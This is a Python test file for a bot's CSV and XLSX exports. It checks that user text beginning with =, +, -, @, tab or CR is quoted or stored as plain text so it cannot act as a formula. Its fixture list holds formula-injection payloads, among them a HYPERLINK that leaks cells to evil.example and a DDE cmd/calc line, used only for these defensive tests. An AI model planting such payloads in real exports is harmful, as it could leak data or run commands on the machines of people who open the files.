"""Exports are safe to open: user text starting with = + - @ tab CR is never a formula.

Every export is read back as an organizer's spreadsheet would read it (openpyxl, csv).
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path
from types import SimpleNamespace
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from bot.content import load_content
from bot.i18n import I18n
from bot.resources import sample_content_path
from bot.services import export_cells, results
from bot.services.broadcasts import failures_csv
from bot.services.proposal_exports import proposals_xlsx
from storage.db import Database
from storage.proposals import ProposalsRepo
from storage.ratings import Rating
from storage.surveys import Answer, ExportRow, Response
from storage.users import UsersRepo
from tests.unit.test_proposals_storage import answers

NOW = datetime(2018, 11, 14, 4, 0, tzinfo=UTC)
I18N = I18n(ZoneInfo("Asia/Almaty"), "en")
EVIL = [
    '=HYPERLINK("http://evil.example/?leak="&M2&N2,"Open attachment")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_csv_cells_get_a_quote_and_harmless_ones_stay() -> None:
    table = read_csv(export_cells.csv_bytes([[*EVIL, "Plain", 5, None]]))
    assert table[0][: len(EVIL)] == ["'" + text for text in EVIL]
    assert table[0][len(EVIL) :] == ["Plain", "5", ""]


async def test_proposals_xlsx_organization_name_is_text(tmp_path: Path) -> None:
    db = Database(tmp_path / "forum.db")
    await db.open()
    try:
        await UsersRepo(db).upsert_seen(
            1, first_name="U", last_name=None, username=None, language_code="ru", now=NOW
        )
        repo = ProposalsRepo(db)
        await repo.submit(1, "ru", answers(org_name=EVIL[0], title=EVIL[2], summary=EVIL[3]), NOW)
        content = load_content(sample_content_path())
        data = proposals_xlsx(I18N.get("ru"), content, await repo.all())
    finally:
        await db.close()
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value in EVIL]
    assert {c.value for c in cells} == {EVIL[0], EVIL[2], EVIL[3]}
    assert all(c.data_type == "s" for c in cells), [(c.value, c.data_type) for c in cells]


def _survey_rows() -> tuple[object, list[ExportRow]]:
    content = load_content(sample_content_path())
    survey = content.survey("feedback")
    assert survey is not None
    rows = []
    for i, text in enumerate(EVIL):
        response = Response(i + 1, "feedback", f"r{i}", None, "ngo", "en", "d", "d", "d")
        answer = Answer("improve", text, False, False, "d")
        rows.append(ExportRow(response, {"improve": answer}))
    return survey, rows


def test_results_xlsx_and_csv_free_text_is_text() -> None:
    survey, rows = _survey_rows()
    tr = I18N.get("en")
    book = load_workbook(io.BytesIO(results.xlsx_bytes(tr, survey, rows)))
    found = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value in EVIL]
    assert len(found) >= 2 * len(EVIL)  # the answers sheet and the free-text sheet
    assert all(c.data_type == "s" for c in found), [(c.value, c.data_type) for c in found]
    table = read_csv(results.csv_bytes(tr, survey, rows))
    column = [line[-1] for line in table[1:]]
    assert column == ["'" + text for text in EVIL]


def test_ratings_csv_comment_is_quoted() -> None:
    content = load_content(sample_content_path())
    ratings = [Rating(content.sessions[0].id, 4, text, None, "d") for text in EVIL]
    table = read_csv(results.ratings_csv(I18N.get("en"), content, ratings))
    assert [line[3] for line in table[1:]] == ["'" + text for text in EVIL]
    # Six ratings without a group: shown; a lone one of a group would not be named.
    assert {line[4] for line in table[1:]} == {"Not specified"}
    lone = [*ratings, Rating(content.sessions[0].id, 5, None, "media", "d")]
    table = read_csv(results.ratings_csv(I18N.get("en"), content, lone))
    assert table[-1][4] == "fewer than 5 responses"


@pytest.mark.parametrize("name", EVIL)
async def test_broadcast_failures_csv_first_name_is_quoted(name: str) -> None:
    row = {
        "user_id": 7,
        "first_name": name,
        "username": "@x",
        "state": "failed",
        "attempts": 3,
        "error": "-boom",
    }

    async def problems(broadcast_id: int) -> list[dict[str, object]]:
        return [row]

    services = SimpleNamespace(repos=SimpleNamespace(outbox=SimpleNamespace(problems=problems)))
    table = read_csv(await failures_csv(services, 1))
    assert table[1] == ["7", "'" + name, "'@x", "failed", "3", "'-boom"]
